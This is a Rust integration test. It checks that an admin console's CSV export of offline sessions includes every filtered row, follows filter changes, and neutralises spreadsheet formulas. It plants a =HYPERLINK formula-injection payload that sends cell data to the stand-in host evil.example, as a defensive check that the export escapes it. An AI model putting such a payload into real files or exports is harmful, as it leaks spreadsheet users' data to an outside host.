//! The list of offline sessions as a file, by its button: what is downloaded is what the list shows, all of it, and nothing in it is
//! read as a formula.

use crate::support::{admin_console, server_with_consoles};
use perennial_testkit::demo::Person;
use perennial_testkit::token::claims;
use perennial_testkit::{Admin, Answer, Backend, Chromium, Client, TestServer};
use serde_json::json;
use std::path::Path;
use std::time::Duration;

const FORMULA: &str = r#"=HYPERLINK("https://evil.example/?x="&A1,"Open")"#;
const FILE: &str = "offline-sessions-demo.csv";
/// More than the server reads of the list at once would take minutes to make; this is more than the page shows at once.
const SESSIONS: usize = 60;

async fn sessions(server: &TestServer, admin: &Admin, name: &str, count: usize) -> Vec<Answer> {
    let fields = json!({"clientId": name, "secret": "s", "directAccessGrantsEnabled": true});
    admin.create_client(fields).await;
    let client = Client::confidential(server, name, "s");
    let mut all = Vec::new();
    for _ in 0..count {
        all.push(client.password_grant(&Person::alice(), "openid offline_access").await.expect_tokens());
    }
    all
}

/// A refresh token's `jti` is `<grant id>.<generation>`.
fn grant_id(tokens: &Answer) -> String {
    let jti = claims(&tokens.refresh_token())["jti"].as_str().expect("a jti").to_owned();
    jti.split('.').next().expect("a grant").to_owned()
}

/// Presses the button and waits for the whole file, which has another name until it is one.
async fn exported(browser: &Chromium, directory: &Path) -> String {
    browser.click("a[href*='export.csv']").await;
    let file = directory.join(FILE);
    let arrived = async {
        while !file.is_file() {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        std::fs::read_to_string(&file).expect("a file")
    };
    let text = tokio::time::timeout(Duration::from_secs(60), arrived).await.expect("a download");
    std::fs::remove_file(&file).expect("the file goes");
    text
}

#[tokio::test]
async fn the_list_is_downloaded_whole_with_its_filters_and_without_formulas() {
    let server = server_with_consoles(Backend::Sqlite).await;
    let admin = Admin::sign_in(&server).await;
    admin.change_realm(json!({"offlineSessionLimit": 0})).await;
    let kept = sessions(&server, &admin, "mail-sync", SESSIONS).await;
    let other = sessions(&server, &admin, "crm-connector", 2).await;
    let named = grant_id(&kept[0]);
    admin.patch(&format!("/demo/offline-sessions/{named}"), &json!({"deviceLabel": FORMULA})).await.expect(204);
    let browser = admin_console(&server, "/admin/demo/offline-access").await;
    browser.open(&server.url("/admin/demo/offline-access?client=mail-sync")).await;
    browser.find_text("60 sessions").await;
    let directory = tempfile::tempdir().expect("a temporary directory");
    browser.download_to(directory.path()).await;

    let text = exported(&browser, directory.path()).await;
    let records: Vec<&str> = text.split_terminator("\r\n").collect();
    assert!(text.ends_with("\r\n") && records[0].starts_with("id,username,"), "{text}");
    assert_eq!(records.len(), 1 + SESSIONS, "{text}");
    for tokens in &kept {
        let id = grant_id(tokens);
        assert!(records.iter().any(|record| record.starts_with(&id)), "no {id} in {text}");
    }
    assert!(!text.contains("crm-connector"), "the file has what the list does not show: {text}");
    // What a spreadsheet would run is text.
    let record = records.iter().find(|record| record.starts_with(&named)).expect("a record");
    assert!(record.contains(r#","'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")","#), "{record}");

    // The button follows the filters as they are changed.
    browser.click("[aria-label='Remove the filter Client: mail-sync']").await;
    browser.find_text("62 sessions").await;
    let text = exported(&browser, directory.path()).await;
    assert_eq!(text.lines().count(), 1 + SESSIONS + other.len(), "{text}");
    browser.quit().await;
}
